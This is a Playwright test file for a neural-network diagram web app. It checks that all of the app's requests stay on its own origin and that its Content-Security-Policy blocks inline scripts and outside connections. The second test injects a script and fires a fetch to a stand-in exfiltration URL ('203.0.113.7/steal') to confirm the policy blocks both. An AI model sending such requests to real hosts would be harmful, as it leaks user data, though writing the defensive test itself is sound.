/**
 * The built page's Content-Security-Policy and the requests the app makes. Every request across
 * the pages (catalog, model pages in both diagram styles with charts, the ONNX import with its
 * worker, the exports) goes to the app's own origin; the policy is in the page, refuses inline
 * scripts and connections to other hosts, and the app itself breaks none of its rules.
 */
import { fileURLToPath } from 'node:url';
import { test as plain, type Page } from '@playwright/test';
import { expect, test } from './fixtures';

const fixture = (f: string) => fileURLToPath(new URL(`../fixtures/onnx/${f}`, import.meta.url));

/** Record every request and every CSP violation the page reports. */
async function watch(page: Page) {
  const requests: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  page.on('websocket', (w) => requests.push(w.url()));
  await page.addInitScript(() => {
    const w = window as unknown as { __csp: string[] };
    w.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      w.__csp.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
  });
  const violations = () => page.evaluate(() => (window as unknown as { __csp: string[] }).__csp);
  return { requests, violations };
}

test('every request stays on the app’s origin and nothing breaks the policy', async ({
  page,
  baseURL,
}) => {
  test.setTimeout(90_000);
  const { requests, violations } = await watch(page);
  const seen: string[] = [];
  const check = async () => seen.push(...(await violations()));

  await page.goto('#/');
  await expect(page.getByTestId('catalog-search')).toBeVisible();
  await check();
  for (const id of ['resnet50', 'googlenet', 'vgg16']) {
    await page.goto(`#/model/${id}`);
    await expect(page.getByTestId('diagram')).toHaveAttribute('data-visible-nodes', /\d+/);
    await page.getByTestId('charts-panel').scrollIntoViewIfNeeded();
    await expect(page.getByTestId('charts-bars')).toHaveAttribute('data-bars', /[1-9]/);
    await check();
  }
  await page.getByTestId('style-volumes').click();
  await expect(page.getByTestId('diagram')).toHaveAttribute('data-style', 'volumes');

  // The other page types: comparison, landscape, a walk-through, the editor (CodeMirror).
  await page.goto('#/compare/alexnet,vgg16');
  await expect(page.getByTestId('cell-depth')).toHaveText(['8', '16']);
  await page.goto('#/landscape');
  await expect(page.getByTestId('chart-accuracy')).toBeVisible();
  await page.goto('#/explain/inception');
  await expect(page.getByTestId('explain-slide')).toBeVisible();
  await page.goto('#/model/lenet5');
  await page.getByTestId('edit-copy').click();
  await expect(page.getByTestId('code-editor')).toBeVisible();
  await check();

  await page.goto('#/import');
  await page.getByLabel('Choose a file…').setInputFiles(fixture('squeezenet1_1.onnx'));
  await expect(page.getByTestId('import-params')).toHaveText('1,235,496');
  await page.getByRole('link', { name: 'Open on the model page' }).click();
  await expect(page.getByTestId('diagram')).toHaveAttribute('data-visible-nodes', /\d+/);
  await page.getByText('Export', { exact: true }).click();
  for (const id of ['diagram-png', 'csv', 'spec']) {
    const [dl] = await Promise.all([
      page.waitForEvent('download'),
      page.getByTestId(`export-${id}`).click(),
    ]);
    expect(await dl.failure()).toBeNull();
  }
  await check();

  const origin = new URL(baseURL!).origin;
  const elsewhere = requests.filter((u) => !u.startsWith(`${origin}/`) && !/^(blob|data):/.test(u));
  expect(requests.length).toBeGreaterThan(5);
  expect(elsewhere).toEqual([]);
  // The worker script was fetched from the app's own assets.
  expect(requests.some((u) => /\/assets\/worker-[\w-]+\.js$/.test(u))).toBe(true);
  expect(seen).toEqual([]);
});

plain('the policy refuses inline scripts and connections to other hosts', async ({ page }) => {
  const { requests, violations } = await watch(page);
  await page.goto('#/');
  const csp = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content');
  expect(csp).toContain("script-src 'self'");
  expect(csp).toContain("connect-src 'self'");
  const result = await page.evaluate(async () => {
    const s = document.createElement('script');
    s.textContent = 'window.__inlineRan = true';
    document.head.appendChild(s);
    let fetched = 'sent';
    try {
      await fetch('http://203.0.113.7/steal?x=1');
    } catch {
      fetched = 'refused';
    }
    return {
      inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true,
      fetched,
    };
  });
  expect(result).toEqual({ inlineRan: false, fetched: 'refused' });
  const v = await violations();
  expect(v.some((x) => x.startsWith('script-src-elem'))).toBe(true);
  expect(v.some((x) => x.startsWith('connect-src') && x.includes('203.0.113.7'))).toBe(true);
  expect(requests.some((u) => u.includes('203.0.113.7'))).toBe(false);
});
